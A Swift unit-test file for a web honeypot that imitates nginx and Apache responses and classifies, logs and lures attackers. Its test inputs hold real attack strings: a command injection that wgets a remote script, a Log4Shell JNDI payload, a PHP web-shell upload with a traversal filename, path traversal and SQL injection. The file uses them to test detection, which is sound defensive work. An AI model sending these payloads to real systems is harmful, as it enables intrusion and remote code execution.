import Foundation
import MitsuCore
import XCTest
@testable import MitsuWeb

final class WebSessionTests: XCTestCase {
    static let nginxDir = URL(fileURLWithPath: #filePath).deletingLastPathComponent().appendingPathComponent("Corpus/nginx")
    let date = Date(timeIntervalSince1970: 1_800_000_000)

    func context(artifacts: ArtifactStore? = nil, persona: WebPersona = .nginx(hostname: "web01")) throws -> WebContext {
        let rules = try WebRuleSet.load(path: try WebRuleSet.builtInPath())
        return WebContext(classifier: WebClassifier(rules: rules),
                          responder: WebResponder(persona: persona, canaries: CanaryValues(seed: [1, 2, 3], host: "web01"),
                                                  installedAt: Date(timeIntervalSince1970: 1_700_000_000)),
                          artifacts: artifacts)
    }

    func session(_ ctx: WebContext) -> WebSession {
        var s = WebSession(context: ctx, endpoints: Endpoints(srcIP: "192.0.2.9", srcPort: 50000, destIP: "192.0.2.1", destPort: 80), scheme: "http")
        let d = date
        s.now = { d }
        return s
    }

    /// The captured nginx response with its Date line replaced by ours.
    func nginx(_ name: String) throws -> String {
        let text = String(decoding: try Data(contentsOf: Self.nginxDir.appendingPathComponent(name)), as: UTF8.self)
        return text.split(separator: "\r\n", omittingEmptySubsequences: false).map {
            $0.hasPrefix("Date: ") ? "Date: \(WebPersona.httpDate(date))" : String($0)
        }.joined(separator: "\r\n")
    }

    func answer(_ raw: String, _ ctx: WebContext? = nil) throws -> (String, WebSession.Output) {
        var s = session(try ctx ?? context())
        let out = s.received(Array(raw.utf8))
        return (String(decoding: Array(out.writes.joined()), as: UTF8.self), out)
    }

    func testErrorResponsesAreByteIdenticalToNginx() throws {
        let cases: [(String, String)] = [
            ("404.http", "GET /nope HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
            ("400-badline.http", "GARBAGE\r\n\r\n"),
            ("400-nohost.http", "GET / HTTP/1.1\r\n\r\n"),
            ("405.http", "POST /index.nginx-debian.html HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"),
            ("413.http", "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 5000000\r\n\r\n"),
            ("414.http", "GET /" + String(repeating: "a", count: 9000) + " HTTP/1.1\r\nHost: x\r\n\r\n"),
            ("400-hdr.http", "GET / HTTP/1.1\r\nHost: x\r\nX: " + String(repeating: "a", count: 9000) + "\r\n\r\n"),
            ("505.http", "GET / HTTP/2.0\r\nHost: x\r\n\r\n"),
            ("501.http", "POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: gzip\r\n\r\n"),
        ]
        for (file, request) in cases {
            let (got, out) = try answer(request)
            XCTAssertEqual(got, try nginx(file), file)
            XCTAssertTrue(out.close, file)
        }
    }

    func testPlainHTTPOnTheHTTPSPortGetsNginxsPage() throws {
        var s = session(try context())
        s.plainOnTLSPort = true
        let out = s.received(Array("GET / HTTP/1.1\r\nHost: x\r\n\r\n".utf8))
        XCTAssertEqual(String(decoding: Array(out.writes.joined()), as: UTF8.self), try nginx("400-plain-http-on-https.http"))
        XCTAssertTrue(out.close)
        XCTAssertEqual(out.events.first { $0.kind == .httpRequest }?.http?.uri, "/")
    }

    func testDefaultPageMatchesNginxButForDates() throws {
        let (got, _) = try answer("GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        let want = try nginx("200.http")
        func strip(_ s: String) -> [String] {
            s.split(separator: "\r\n").filter { !$0.hasPrefix("Last-Modified") && !$0.hasPrefix("ETag") }.map(String.init)
        }
        XCTAssertEqual(strip(got), strip(want))
        XCTAssertTrue(got.contains("ETag: \"6553f100-267\"\r\n"))
    }

    func testKeepAlivePipelinedAndHead() throws {
        let (got, out) = try answer("GET /a HTTP/1.1\r\nHost: x\r\n\r\nHEAD / HTTP/1.1\r\nHost: x\r\n\r\nGET /b HTTP/1.0\r\n\r\n")
        XCTAssertEqual(out.writes.count, 3)
        XCTAssertTrue(out.close, "HTTP/1.0 without keep-alive closes")
        let heads = got.components(separatedBy: "HTTP/1.1 ")
        XCTAssertEqual(heads.count, 4)
        XCTAssertTrue(heads[1].hasPrefix("404") && heads[1].contains("Connection: keep-alive"))
        XCTAssertTrue(heads[2].hasPrefix("200") && heads[2].hasSuffix("\r\n\r\n"), "HEAD has no body")
        XCTAssertTrue(heads[3].contains("Connection: close"))
        XCTAssertEqual(out.events.filter { $0.kind == .httpRequest }.count, 3)
    }

    func testAttackURLsAreSeenLabelledAndQueuedForDownloadOnlyWithAFetcher() throws {
        let raw = "GET /cgi-bin/;cd%20/tmp;wget%20http://198.51.100.7/x.sh HTTP/1.1\r\nHost: a\r\nUser-Agent: Hello\r\n\r\n"
        let (_, plain) = try answer(raw)
        let seen = try XCTUnwrap(plain.events.first { $0.kind == .urlSeen })
        XCTAssertEqual(seen.url, "http://198.51.100.7/x.sh")
        XCTAssertEqual(seen.message, "in path")
        XCTAssertEqual(seen.srcIP, "192.0.2.9")
        XCTAssertTrue(seen.attack?.categories.contains("cmd_injection") ?? false)
        XCTAssertTrue(plain.downloads.isEmpty, "no fetcher: recorded only")
        let req = try XCTUnwrap(plain.events.first { $0.kind == .httpRequest })
        XCTAssertEqual(req.http?.client, "attacker")
        XCTAssertEqual(req.http?.clientSession?.count, 16)

        var ctx = try context()
        ctx.fetcher = URLFetcher(fetch: { _, _ in .failed("x") }, artifacts: nil)
        let (_, fetching) = try answer(raw, ctx)
        XCTAssertEqual(fetching.downloads.map(\.url), ["http://198.51.100.7/x.sh"])
        XCTAssertEqual(fetching.downloads.first?.base.session, fetching.events.first?.session)

        // A benign request with a URL in it (a Referer, a link parameter) is not an attack: nothing seen.
        let (_, benign) = try answer("GET /?next=http://example.com/ HTTP/1.1\r\nHost: a\r\nReferer: http://example.com/\r\n\r\n")
        XCTAssertNil(benign.events.first { $0.kind == .urlSeen })
        XCTAssertEqual(benign.events.first { $0.kind == .httpRequest }?.http?.client, "benign")
    }

    func testRequestEventCarriesHTTPAttackAndRawPayload() throws {
        let raw = "GET /?x=$%7Bjndi:ldap://198.51.100.7/a%7D HTTP/1.1\r\nHost: victim\r\nUser-Agent: curl/8\r\nX-A: 1\r\nX-A: 2\r\n\r\n"
        let (_, out) = try answer(raw)
        let e = try XCTUnwrap(out.events.first { $0.kind == .httpRequest })
        XCTAssertEqual(e.honeypot, "web")
        XCTAssertEqual(e.protocol, "http")
        XCTAssertEqual(e.http?.method, "GET")
        XCTAssertEqual(e.http?.uri, "/?x=$%7Bjndi:ldap://198.51.100.7/a%7D")
        XCTAssertEqual(e.http?.version, "HTTP/1.1")
        XCTAssertEqual(e.http?.host, "victim")
        XCTAssertEqual(e.http?.userAgent, "curl/8")
        XCTAssertEqual(e.http?.headers?["x-a"], "1, 2")
        XCTAssertNil(e.http?.bodySHA256)
        XCTAssertEqual(e.attack?.categories, ["jndi"])
        XCTAssertEqual(e.attack?.cves, ["CVE-2021-44228"])
        XCTAssertEqual(e.payload?.sha256, Digests.sha256(Array(raw.utf8)))
        XCTAssertEqual(e.payload?.length, raw.utf8.count)
        XCTAssertEqual(e.srcIP, "192.0.2.9")
    }

    func testBodiesAndUploadsAreStoredAndCredentialsLogged() throws {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("mitsu-web-\(UUID().uuidString)").path
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let ctx = try context(artifacts: ArtifactStore(root: dir))
        let file = "<?php system($_GET['c']); ?>"
        let body = "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../s.php\"\r\n\r\n\(file)\r\n--b--\r\n"
        let (_, out) = try answer("POST /upload.php HTTP/1.1\r\nHost: h\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: \(body.utf8.count)\r\n\r\n\(body)", ctx)
        let uploads = out.events.filter { $0.kind == .fileUpload }
        XCTAssertEqual(uploads.count, 2)
        XCTAssertEqual(uploads[0].sha256, Digests.sha256(Array(body.utf8)))
        XCTAssertEqual(uploads[1].sha256, Digests.sha256(Array(file.utf8)))
        XCTAssertEqual(uploads[1].filename, "../../s.php")
        XCTAssertEqual(uploads[1].size, Int64(file.utf8.count))
        let stored = try Data(contentsOf: URL(fileURLWithPath: ArtifactStore(root: dir).path(sha256: Digests.sha256(Array(file.utf8)))))
        XCTAssertEqual(Digests.sha256(stored), Digests.sha256(Array(file.utf8)))
        let req = try XCTUnwrap(out.events.first { $0.kind == .httpRequest })
        XCTAssertEqual(req.http?.bodySHA256, Digests.sha256(Array(body.utf8)))
        XCTAssertTrue(req.attack?.categories.contains("upload") ?? false)

        let (page, out2) = try answer("POST /wp-login.php HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 34\r\n\r\nlog=%3Cb%3Eadmin&pwd=pa%26ss&x=1aa")
        let login = try XCTUnwrap(out2.events.first { $0.kind == .loginFailed })
        XCTAssertEqual(login.username, "<b>admin")
        XCTAssertEqual(login.password, "pa&ss")
        XCTAssertTrue(page.contains("for the username <strong>&lt;b&gt;admin</strong> is incorrect"))
        XCTAssertFalse(page.contains("<b>admin"))
    }

    func testLuresAndEscaping() throws {
        let (env, _) = try answer("GET /.env HTTP/1.1\r\nHost: h\r\n\r\n")
        let canary = CanaryValues(seed: [1, 2, 3], host: "web01")
        XCTAssertTrue(env.hasPrefix("HTTP/1.1 200 OK\r\nServer: nginx/1.22.1\r\n"))
        XCTAssertTrue(env.contains("DB_PASSWORD=\(canary.dbPassword)\n"))
        XCTAssertTrue(env.contains("AWS_ACCESS_KEY_ID=AKIA"))
        let (passwd, _) = try answer("GET /index.php?page=../../../../etc/passwd HTTP/1.1\r\nHost: h\r\n\r\n")
        XCTAssertTrue(passwd.contains("\r\n\r\nroot:x:0:0:root:/root:/bin/bash\n"))
        let (sql, _) = try answer("GET /item.php?id=1'%20OR%20'1'='1%3Cscript%3E HTTP/1.1\r\nHost: h\r\n\r\n")
        XCTAssertTrue(sql.contains("You have an error in your SQL syntax"))
        XCTAssertTrue(sql.contains("&lt;script&gt;"))
        XCTAssertFalse(sql.contains("<script>"))
        let (wp, _) = try answer("GET /wp-login.php HTTP/1.1\r\nHost: \"><script>x</script>\r\n\r\n")
        XCTAssertFalse(wp.contains("<script>x"))
        XCTAssertTrue(wp.contains("name=\"log\""))
    }

    func testReusedCanaryPasswordIsFlagged() throws {
        let canary = CanaryValues(seed: [1, 2, 3], host: "web01")
        let body = "pma_username=root&pma_password=\(canary.dbPassword)"
        let (_, out) = try answer("POST /phpmyadmin/index.php HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: \(body.utf8.count)\r\n\r\n\(body)")
        XCTAssertEqual(out.events.first { $0.kind == .httpRequest }?.attack?.categories, ["bruteforce", "canary", "recon"])
        let (_, other) = try answer("POST /phpmyadmin/index.php HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 34\r\n\r\npma_username=root&pma_password=abc")
        XCTAssertEqual(other.events.first { $0.kind == .httpRequest }?.attack?.categories, ["bruteforce", "recon"])
    }

    func testProtocolErrorEventOnMalformedAndTruncated() throws {
        let (_, out) = try answer("GET / HTTP/1.1\r\nHost: x\r\nX: " + String(repeating: "a", count: 9000) + "\r\n\r\n")
        let e = try XCTUnwrap(out.events.first { $0.kind == .protocolError })
        XCTAssertTrue(e.message?.contains("header too large") ?? false)
        var s = session(try context())
        XCTAssertTrue(s.received(Array("POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 9\r\n\r\nab".utf8)).writes.isEmpty)
        let closed = s.inputClosed()
        XCTAssertEqual(closed.events.first?.kind, .protocolError)
        XCTAssertTrue(closed.writes.isEmpty)
    }

    func testRoutingIsNginxsCaseSensitiveNormalisedPath() throws {
        XCTAssertTrue(try answer("GET /../../etc/passwd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n").0 == (try nginx("400-badline.http")))
        XCTAssertTrue(try answer("GET /a/..%2f..%2fetc/passwd HTTP/1.1\r\nHost: x\r\n\r\n").0.hasPrefix("HTTP/1.1 400 "))
        XCTAssertTrue(try answer("GET /etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n").0.hasPrefix("HTTP/1.1 404 "))
        XCTAssertTrue(try answer("GET //blog/./../wp-login.php HTTP/1.1\r\nHost: x\r\n\r\n").0.contains("name=\"log\""))
        XCTAssertTrue(try answer("GET /blog/wp-login.php HTTP/1.1\r\nHost: x\r\n\r\n").0.hasPrefix("HTTP/1.1 404 "))
        XCTAssertTrue(try answer("GET /PHPMyAdmin/ HTTP/1.1\r\nHost: x\r\n\r\n").0.hasPrefix("HTTP/1.1 404 "))
        XCTAssertTrue(try answer("GET /phpmyadmin/ HTTP/1.1\r\nHost: x\r\n\r\n").0.contains("pma_username"))
        XCTAssertTrue(try answer("GET http://www.example.com/ HTTP/1.1\r\nHost: x\r\n\r\n").0.hasPrefix("HTTP/1.1 200 OK"))
        XCTAssertTrue(try answer("GET http://www.example.com/nope HTTP/1.1\r\nHost: x\r\n\r\n").0.hasPrefix("HTTP/1.1 404 "))
        XCTAssertTrue(try answer("CONNECT www.example.com:443 HTTP/1.1\r\nHost: x\r\n\r\n").0.hasPrefix("HTTP/1.1 400 "))
        XCTAssertTrue(try answer("GET * HTTP/1.1\r\nHost: x\r\n\r\n").0.hasPrefix("HTTP/1.1 400 "))
        XCTAssertEqual(WebResponder.normalisedPath("/a/b/../c/./"), "/a/c/")
        XCTAssertEqual(WebResponder.normalisedPath("/a/.."), "/")
        XCTAssertNil(WebResponder.normalisedPath("/.."))
    }

    func testApachePersona() throws {
        let (got, _) = try answer("GET /missing HTTP/1.1\r\nHost: a<b\r\n\r\n", try context(persona: .apache(hostname: "web01")))
        XCTAssertTrue(got.hasPrefix("HTTP/1.1 404 Not Found\r\nDate: "))
        XCTAssertTrue(got.contains("\r\nServer: Apache/2.4.71 (Debian)\r\n"))
        XCTAssertTrue(got.contains("<address>Apache/2.4.71 (Debian) Server at a&lt;b Port 80</address>"))
    }

    /// Byte for byte what Debian 12's apache2 2.4.71 answered (Tests/Interop/test_web_apache.py compares
    /// the running servers), Date aside.
    func testApacheErrorPagesAndHeadersMatchDebiansApache() throws {
        let ctx = try context(persona: .apache(hostname: "shop-web01"))
        let d = "Date: \(WebPersona.httpDate(date))\r\nServer: Apache/2.4.71 (Debian)\r\n"
        let doctype = "<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.01//EN\" \"http://www.w3.org/TR/html4/strict.dtd\">\n<html><head>\n"
        XCTAssertEqual(try answer("GET /nope HTTP/1.1\r\nHost: x:8080\r\nConnection: close\r\n\r\n", ctx).0,
                       "HTTP/1.1 404 Not Found\r\n\(d)Content-Length: 305\r\nConnection: close\r\nContent-Type: text/html; charset=iso-8859-1\r\n\r\n"
                       + doctype + "<title>404 Not Found</title>\n</head><body>\n<h1>Not Found</h1>\n<p>The requested URL was not found on this server.</p>\n<hr>\n<address>Apache/2.4.71 (Debian) Server at x Port 8080</address>\n</body></html>\n")
        XCTAssertEqual(try answer("DELETE / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", ctx).0,
                       "HTTP/1.1 405 Method Not Allowed\r\n\(d)Allow: GET,POST,OPTIONS,HEAD\r\nContent-Length: 330\r\nConnection: close\r\nContent-Type: text/html; charset=iso-8859-1\r\n\r\n"
                       + doctype + "<title>405 Method Not Allowed</title>\n</head><body>\n<h1>Method Not Allowed</h1>\n<p>The requested method DELETE is not allowed for this URL.</p>\n<hr>\n<address>Apache/2.4.71 (Debian) Server at x Port 80</address>\n</body></html>\n")
        XCTAssertEqual(try answer("GARBAGE\r\n\r\n", ctx).0,
                       "HTTP/1.1 400 Bad Request\r\n\(d)Content-Length: 342\r\nConnection: close\r\nContent-Type: text/html; charset=iso-8859-1\r\n\r\n"
                       + doctype + "<title>400 Bad Request</title>\n</head><body>\n<h1>Bad Request</h1>\n<p>Your browser sent a request that this server could not understand.<br />\n</p>\n<hr>\n<address>Apache/2.4.71 (Debian) Server at shop-web01 Port 80</address>\n</body></html>\n")
        XCTAssertTrue(try answer("FOO / HTTP/1.1\r\nHost: x\r\n\r\n", ctx).0.contains("<p>FOO not supported for current URL.<br />\n</p>"))
        XCTAssertTrue(try answer("GET /.htaccess HTTP/1.1\r\nHost: x\r\n\r\n", ctx).0.hasPrefix("HTTP/1.1 403 Forbidden\r\n"))
        XCTAssertEqual(try answer("OPTIONS / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", ctx).0,
                       "HTTP/1.1 200 OK\r\n\(d)Allow: GET,POST,OPTIONS,HEAD\r\nContent-Length: 0\r\nConnection: close\r\nContent-Type: text/html\r\n\r\n")
        // Keep-alive headers only when asked for by name, counting down.
        let (two, _) = try answer("GET /nope HTTP/1.1\r\nHost: x\r\nConnection: keep-alive\r\n\r\nGET /nope HTTP/1.1\r\nHost: x\r\nConnection: keep-alive\r\n\r\nGET /nope HTTP/1.1\r\nHost: x\r\n\r\n", ctx)
        XCTAssertEqual(two.components(separatedBy: "Keep-Alive: timeout=5, max=100\r\nConnection: Keep-Alive\r\n").count, 2)
        XCTAssertEqual(two.components(separatedBy: "Keep-Alive: timeout=5, max=99\r\nConnection: Keep-Alive\r\n").count, 2)
        XCTAssertEqual(two.components(separatedBy: "Connection:").count, 3, "the third response has no Connection header")
        // Plain HTTP on an HTTPS port: mod_ssl's page (captured from apache2 2.4.71 with SSLEngine on).
        var tls = session(ctx)
        tls.plainOnTLSPort = true
        let plain = String(decoding: Array(tls.received(Array("GET / HTTP/1.1\r\nHost: x\r\n\r\n".utf8)).writes.joined()), as: UTF8.self)
        XCTAssertTrue(plain.hasPrefix("HTTP/1.1 400 Bad Request\r\n\(d)Content-Length: 478\r\nConnection: close\r\n"), plain)
        XCTAssertTrue(plain.hasSuffix("<p>Your browser sent a request that this server could not understand.<br />\nReason: You're speaking plain HTTP to an SSL-enabled server port.<br />\n Instead use the HTTPS scheme to access this URL, please.<br />\n</p>\n<hr>\n<address>Apache/2.4.71 (Debian) Server at shop-web01 Port 80</address>\n</body></html>\n"), plain)
        let (page, _) = try answer("GET / HTTP/1.1\r\nHost: x\r\n\r\n", ctx)
        XCTAssertTrue(page.contains("\r\nContent-Length: 10701\r\n"))
        XCTAssertTrue(page.contains("<title>Apache2 Debian Default Page: It works</title>"))
    }
}

final class ScanTrackerTests: XCTestCase {
    func testA404BurstMarksTheClientAndQuietResets() {
        let t = ScanTracker(window: 60, threshold: 3, maxClients: 2)
        XCTAssertFalse(t.record(client: "a", status: 404, at: 0))
        XCTAssertFalse(t.record(client: "a", status: 200, at: 1))
        XCTAssertFalse(t.record(client: "a", status: 404, at: 2))
        XCTAssertTrue(t.record(client: "a", status: 404, at: 3))
        XCTAssertFalse(t.record(client: "b", status: 404, at: 3), "per client")
        XCTAssertFalse(t.record(client: "a", status: 200, at: 100), "quiet for a window resets")
        _ = t.record(client: "c", status: 404, at: 101)
        XCTAssertFalse(t.record(client: "b", status: 404, at: 102), "b was the stalest and was dropped")
    }

    func testSessionLabelsABurstScanner() throws {
        let rules = try WebRuleSet.load(path: try WebRuleSet.builtInPath())
        let ctx = WebContext(classifier: WebClassifier(rules: rules),
                             responder: WebResponder(persona: .nginx(hostname: "h"), canaries: CanaryValues(seed: [], host: "h"), installedAt: Date()),
                             artifacts: nil, tracker: ScanTracker(threshold: 5))
        var s = WebSession(context: ctx, endpoints: Endpoints(srcIP: "192.0.2.7", srcPort: 1, destIP: "192.0.2.1", destPort: 80), scheme: "http")
        var labels: [[String]] = []
        for i in 0..<6 {
            let out = s.received(Array("GET /dir\(i)/ HTTP/1.1\r\nHost: h\r\n\r\n".utf8))
            labels.append(out.events.first { $0.kind == .httpRequest }?.attack?.categories ?? [])
        }
        XCTAssertEqual(labels, [[], [], [], [], ["scanner"], ["scanner"]])
    }
}
